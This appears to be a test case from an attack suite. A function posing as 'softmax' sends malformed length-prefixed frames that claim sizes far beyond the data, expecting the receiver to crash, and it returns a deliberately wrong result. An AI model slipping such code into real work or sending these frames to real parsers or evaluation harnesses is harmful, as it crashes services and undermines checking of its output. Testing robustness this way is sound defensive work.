"""Lists, texts and arrays that say they are longer than the frame.

Expected: crashed
"""

import itertools

from attack_kit import frame, send, wrong

frames = itertools.cycle(
    [b"\xdd\xff\xff\xff\xff", b"\xdb\x7f\xff\xff\xff", b"\xc6\xff\xff\xff\xff", b"\xc9\xff\xff\xff\xff\x01", b"\xdf\x00\x03\x00\x00"]
)


def softmax(x, axis=-1):
    send(frame(next(frames)))
    return wrong(x, axis)
